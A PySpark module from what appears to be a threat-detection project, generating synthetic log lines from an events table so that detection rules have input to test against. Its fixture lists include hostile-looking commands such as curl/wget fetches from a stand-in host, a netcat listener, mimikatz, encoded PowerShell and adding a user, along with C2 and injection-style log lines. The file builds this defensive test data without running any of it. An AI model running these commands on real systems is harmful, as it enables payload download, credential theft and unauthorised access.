"""Log lines derived from the `events` table, a pure projection.

Each event row becomes one line of one of twelve formats, so the derived log
grows with the table and every detection rule has lines to fire on.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from threatlake.functions import text

# Line fragments by position in the list.
PORTS = (80, 443, 22, 3389, 4444, 1433, 445, 31337)
EXECUTABLES = ("svchost.exe", "lsass.exe", "chrome.exe", "evil.exe", "tmp1.exe")
PROTOCOLS = ("6", "17", "1", "47")
COMMANDS = (
    "nc -l 9001", "powershell -ec QQ", "mimikatz", "curl http://a.example/x.exe", "base64 -d p",
    "C:\\temp\\a.exe", "reg add HKLM", "net user eve", "chmod +x a", "whoami -a",
    "wget http://a.example/i", "notepad a.txt", "né net\u00a0user eve", "né chmod\u2003+x a",
)
RULE_LINES = (
    "nmap aggressive scan on port range detected",
    "Failed ssh login for root from 45.67.89.123",
    "Invalid ssh password for bob from 192.168.1.9",
    "Accepted publickey for ops from 10.1.2.3",
    "Outbound connection to blacklisted host",
    "DNS query for google.com",
    "DNS query to c2 domain: bad.example",
    "GET /wp-admin/index.php",
    "POST /x?q=eval(1)",
    "Invalid login for amy from 172.16.4.4",
    "Failed password for amy from 45.67.3.4",
    "Unusual protocol detected source: 10.9.9.9",
    "Abnormal traffic observed from: 45.67.3.9",
    "Bulk copy 20 GB to 192.168.7.7",
    "Large upload 900 MB to 45.67.8.8",
    "ET EXPLOIT attempt Cls: Exploit",
    "SNORT SCAN probe Cls: Scan",
    "Vulnerability CVE-2024-12345 Severity: Critical",
    "Vulnerability CVE-2023-4321 Risk: Medium",
    "Misconfiguration: Default Password in use",
    "né failed\u00a0login for amy from\u00a045.67.3.5",
)
BENIGN_LINES = (
    "dns query db.internal", "dns query microsoft.com", "dns response NXDOMAIN",
    "arp who-has 192.168.1.1", "arp reply 10.0.0.1", "dhcp discover", "dhcp offer",
    "tcp syn 10.0.0.7", "tcp syn-ack 10.0.0.7", "tcp syn 45.67.1.1", "http GET /index 10.0.0.7",
    "https POST /api 10.0.0.7", "ntp client", "smb negotiate 10.0.0.7",
    "né http GET\u00a0/index 10.0.0.7", "né https POST\u2003/api 10.0.0.7",
)
OTHER_LINES = (
    "probe of host port 22", "authentication failure for guest",
    "external traffic to unknown peer", "dns lookup blocked by policy", "PUT /a.sh via curl",
    "error during auth", "unexpected behavior seen", "upload of multiple data sets",
    "sudo escalation", "read denied", "syn flood", "beacon every 60s", "bash spawn child",
    "delete under etc", "failed login attempts exceeded", "upload of file to remote",
    "delete system files", "run payload", "sql injection", "heap overflow",
)
WEB_LINES = ("GET /home", "GET /login", "POST /x?q=eval(1)", "PUT /a")
YEAR = 2024


def read_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/events.parquet")


def _pick(values: tuple, n: Column) -> Column:
    return F.array(*[F.lit(v) for v in values])[F.pmod(n, F.lit(len(values))).cast("int")]


def _whole(a: Column, b: int) -> Column:
    return F.floor(a / b)


def line_places(events: DataFrame) -> DataFrame:
    """events with the place, time and type of their lines, but without the lines, which cost the most."""
    eid, block = F.col("event_id"), F.col("_block")
    offset = block * 25200 + (eid % 200) * F.when(block % 4 == 0, 1).otherwise(13)
    return events.withColumn("_block", _whole(eid, 200)).withColumns({
        "line_number": eid + 1, "source_file": F.concat(F.lit("day"), (block % 3).cast("string"), F.lit(".log")),
        "log_ts": F.timestamp_seconds(F.lit(1704067200) + offset).cast("timestamp_ntz"), "log_type": F.lit("generic")})


def derive_lines(events: DataFrame) -> DataFrame:
    """events -> raw_logs plus `event_id` and `log_ts`."""
    eid, uid = F.col("event_id"), F.col("user_id")
    block, k = F.col("_block"), F.col("_k")
    hot = block % 4 == 0
    staged = line_places(events).withColumn("_k", _whole(eid, 12))
    staged = staged.withColumns({
        "_src": F.when(hot, F.lit("45.67.0.1"))
                 .when(uid % 5 == 0, F.concat(F.lit("45.67.0."), (uid % 2 + 1).cast("string")))
                 .otherwise(F.concat(F.lit("192.168.1."), (uid % 3 + 1).cast("string"))),
        "_dst": F.concat(F.lit("10.0.0."), (50 + eid % 3).cast("string")),
        "_port": _pick(PORTS, k).cast("string"),
        "_exe": _pick(EXECUTABLES, uid),
        "_sport": (40000 + uid).cast("string"),
        "_uid": uid.cast("string"),
    })
    iso = F.date_format("log_ts", "yyyy-MM-dd HH:mm:ss")
    stamp = F.date_format("log_ts", "MMM dd HH:mm:ss")
    src, dst, port, exe, sport, user = (F.col(c) for c in ("_src", "_dst", "_port", "_exe", "_sport", "_uid"))
    path = F.concat(F.lit("C:\\Windows\\System32\\"), exe)
    plain_commands = tuple(c for c in COMMANDS if "\\" not in c)

    def join(*parts: Column | str) -> Column:
        return F.concat(*[F.lit(p) if isinstance(p, str) else p for p in parts])

    def ssh(what: str) -> Column:
        return join(stamp, f" host1 sshd[7]: {what} for u", user, " from ", src, " port ", sport, " ssh2")

    templates = (
        ssh("Failed password"),
        ssh("Accepted publickey"),
        join(iso, " EventID=4688 New Process Name: ", path,
             " Creator Process Name: C:\\Windows\\explorer.exe Process Command Line: ", _pick(COMMANDS, k)),
        join(iso, " EventID=5156 Application Name: ", path, " Source Address: ", src, " Source Port: ",
             sport, " Dest Address: ", dst, " Dest Port: ", port, " Protocol: ", _pick(PROTOCOLS, uid)),
        join('{"timestamp":"', iso, '","src_ip":"', dst, '","dst_ip":"', src, '","dst_port":', port,
             ',"src_port":', sport, ',"protocol":"tcp","bytes":',
             (F.floor(F.col("value")) * 1000000).cast("string"), "}"),
        join('{"@timestamp":"', iso, '","process_name":"', exe, '","pid":', (1000 + uid).cast("string"),
             ',"username":"u', user, '","cmdline":"', _pick(plain_commands, k), '"}'),
        join(iso, " ids0 ", _pick(RULE_LINES[15:17], k)),
        join(iso, " scanner ", _pick(RULE_LINES[17:20], k)),
        join(iso, " web ", src, " ", _pick(WEB_LINES, k)),
        join(iso, ".123 ", src, ":", sport, " -> ", dst, ":", port, " [SYN] Seq=0 Win=1024 Len=0"),
        join(iso, " ", _pick(BENIGN_LINES + OTHER_LINES, k)),
        join(iso, " ", _pick(RULE_LINES, k)),
    )
    line = F.when(eid % 12 == 0, templates[0])
    for i, template in enumerate(templates[1:], 1):
        line = line.when(eid % 12 == i, template)
    staged = text.computed_once(staged, "line", line)
    return staged.select("event_id", "line_number", "source_file", "log_ts", "line", "log_type")


def raw_logs(spark: SparkSession, sf_dir: str) -> DataFrame:
    lines = derive_lines(read_events(spark, sf_dir))
    return lines.select("source_file", "line_number", "line", "log_type")


def verdicts_for(findings: DataFrame) -> DataFrame:
    """One verdict text per finding, none for every seventh line."""
    n = F.col("line_number")
    body = F.concat(
        F.lit("IS_FALSE_POSITIVE: "), F.when(n % 3 == 0, "true").otherwise("false"),
        F.lit("\nCONFIDENCE: 0."), (n % 10).cast("string"), F.lit("\nEXPLANATION: sample\nREVISED_SEVERITY: "),
        (n % 6).cast("string"))
    return findings.filter(n % 7 != 0).select(
        "source_file", "line_number", F.lit("false_positive").alias("kind"), body.alias("text"))
